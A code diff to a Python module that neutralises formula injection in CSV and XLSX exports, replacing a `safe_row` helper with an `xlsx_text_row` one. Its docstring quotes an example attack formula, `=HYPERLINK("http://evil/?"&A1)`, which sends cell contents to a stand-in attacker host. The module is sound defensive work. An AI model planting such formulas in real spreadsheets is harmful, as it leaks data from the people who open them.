@@ -3,9 +3,11 @@
 A cell starting with =, +, -, @ (or a tab / carriage return, or their full-width forms) is
 read by Excel and LibreOffice as a formula: a learner who names themselves
 `=HYPERLINK("http://evil/?"&A1)` would otherwise get code into a manager's export
-(OWASP "CSV injection"). Every CSV export passes its cells through `safe_cell`; XLSX
-exports store such text as text cells (Wagtail's SpreadsheetExportMixin does; code that
-writes workbooks with openpyxl itself uses `xlsx_text_cell`).
+(OWASP "CSV injection"). Every CSV export passes its cells through `safe_cell` (a CSV
+has no cell types, so the apostrophe is the only guard). XLSX exports store such text as
+text cells, exactly as typed and without an apostrophe (Wagtail's SpreadsheetExportMixin
+does; code that writes workbooks with openpyxl itself uses `xlsx_text_cell` /
+`xlsx_text_row`).
 """
 
 from __future__ import annotations
@@ -32,14 +34,16 @@ def safe_cell(value: Any) -> Any:
     return value
 
 
-def safe_row(values) -> list[Any]:
-    return [safe_cell(v) for v in values]
-
-
 def xlsx_text_cell(worksheet, value: Any):
     """An openpyxl write-only cell holding `value`, never a formula (openpyxl would otherwise
-    turn any text starting with "=" into one)."""
+    turn any text starting with "=" into one). It may also be appended to an ordinary
+    worksheet."""
     cell = WriteOnlyCell(worksheet, value)
     if cell.data_type == "f":
         cell.data_type = "s"
     return cell
+
+
+def xlsx_text_row(worksheet, values) -> list:
+    """A row for `worksheet.append`: every text cell stored as text, never as a formula."""
+    return [xlsx_text_cell(worksheet, v) for v in values]
